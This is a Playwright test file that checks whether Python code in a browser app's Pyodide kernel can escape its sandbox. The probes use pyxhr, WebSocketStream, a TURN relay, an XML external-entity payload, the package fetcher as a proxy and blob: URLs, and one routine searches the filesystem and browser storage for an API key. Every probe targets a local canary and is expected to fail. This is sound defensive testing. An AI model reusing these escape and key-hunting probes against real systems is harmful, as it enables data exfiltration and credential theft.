/**
 * Ways out of the kernel that e2e/kernel-network.spec.ts does not already try, each as one case
 * on the adversary harness: a route Pyodide grew (pyxhr), WebSocketStream, WebRTC through a
 * TURN server over TCP, XML external entities, the app's package fetcher used as a proxy, the
 * app's blob: URLs, and a hunt for the API key.
 *
 * Controls: the kernel frame's CSP (no connect-src), its opaque origin, Python living in a
 * worker (no DOM, no WebRTC), the package fetcher's lock-file check, the key kept off the kernel.
 */
import { expect, test, TEST_KEY } from "./support/adversary.ts";
import { runProbe } from "./support/probes.ts";

const routes: { name: string; probe: string; csp?: RegExp }[] = [
  {
    name: "pyodide.http.pyxhr",
    probe: `from pyodide.http import pyxhr\nawait report(lambda: pyxhr.get(url("pyxhr")).text)`,
    csp: /^connect-src /,
  },
  {
    name: "WebSocketStream",
    probe: `await report(lambda: js.WebSocketStream.new(WS + "/websocketstream").opened)`,
    csp: /^connect-src /,
  },
  {
    // A TURN server over TCP would show as a connection on the canary; workers have no WebRTC.
    name: "WebRTC through a TURN server over TCP",
    probe: String.raw`
async def turn():
    servers = [obj({"urls": f"turn:127.0.0.1:{PORT}?transport=tcp", "username": "u", "credential": "c"})]
    pc = js.RTCPeerConnection.new(obj({"iceServers": servers, "iceTransportPolicy": "relay"}))
    pc.createDataChannel("leak")
    await pc.setLocalDescription(await pc.createOffer())
    await asyncio.sleep(2)
    return "blocked: no candidate" if pc.iceGatheringState != "complete" else "reached"
await report(turn)`,
  },
  {
    name: "XML external entities",
    probe: String.raw`
import io, xml.sax
def parse():
    parser = xml.sax.make_parser()
    parser.setFeature(xml.sax.handler.feature_external_ges, True)
    parser.setContentHandler(xml.sax.handler.ContentHandler())
    parser.parse(io.StringIO(f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY e SYSTEM "{url("xxe")}">]><r>&e;</r>'))
await report(parse)`,
  },
  {
    // The worker hands URLs under its package base to the app page, which fetches for it.
    name: "the app's package fetcher as a proxy",
    probe: String.raw`
async def via_app():
    response = await js.fetch("https://packages.invalid/" + url("package-proxy/x-1.0-py3-none-any.whl"))
    return "reached" if response.ok else f"blocked: HTTP {response.status}"
await report(via_app)`,
  },
];

for (const { name, probe, csp } of routes) {
  test(`kernel: ${name} reaches nothing`, async ({ adversary }) => {
    await adversary.setUp();
    const result = await runProbe(adversary.app, adversary.canary, probe);
    expect(result.verdict).toMatch(/^blocked: /);
    if (csp)
      expect(result.violations, `refused by the kernel's CSP (${result.verdict})`).toContainEqual(
        expect.stringMatching(csp),
      );
    await adversary.expectSafe();
  });
}

test("kernel: a blob: URL the app made cannot be read from Python", async ({ adversary }) => {
  await adversary.setUp();
  const blob = await adversary.page.evaluate(() => URL.createObjectURL(new Blob(["secret-of-the-app"])));
  const probe = String.raw`
from pyodide.http import open_url
async def read():
    for attempt in (lambda: js.fetch(BLOB), lambda: open_url(BLOB)):
        try:
            result = attempt()
            if inspect.isawaitable(result): result = await result
            body = await result.text() if hasattr(result, "text") else result.read()
            if "secret-of-the-app" in body: return "reached"
        except BaseException:
            pass
    return "blocked: every read failed"
await report(read)`;
  const result = await runProbe(adversary.app, adversary.canary, probe, { BLOB: blob });
  expect(result.verdict).toMatch(/^blocked: /);
  await adversary.expectSafe();
});

test("kernel: Python finds the API key nowhere it can look", async ({ adversary }) => {
  await adversary.setUp();
  // The key goes in reversed, so the cell's own source does not carry it.
  const probe = String.raw`
KEY = REVERSED[::-1]
def hunt():
    places = {"location": js.location.href, "name": getattr(js.self, "name", "")}
    for name in js.Object.getOwnPropertyNames(js.self):
        try: places[f"self.{name}"] = js.JSON.stringify(js.Reflect.get(js.self, name))
        except BaseException: pass
    for key in ("localStorage", "sessionStorage"):
        try: places[key] = js.JSON.stringify(getattr(js, key))
        except BaseException: pass
    import os
    for folder, _, files in os.walk("/"):
        if folder.startswith(("/proc", "/dev", "/sys", "/lib")): continue
        for f in files:
            try: places[os.path.join(folder, f)] = open(os.path.join(folder, f), errors="ignore").read()
            except BaseException: pass
    found = [where for where, text in places.items() if text and KEY in str(text)]
    return f"reached: {found}" if found else f"blocked: not in {len(places)} places"
await report(hunt)`;
  const result = await runProbe(adversary.app, adversary.canary, probe, { REVERSED: [...TEST_KEY].reverse().join("") });
  expect(result.verdict).toMatch(/^blocked: not in \d+ places/);
  await adversary.expectSafe();
});
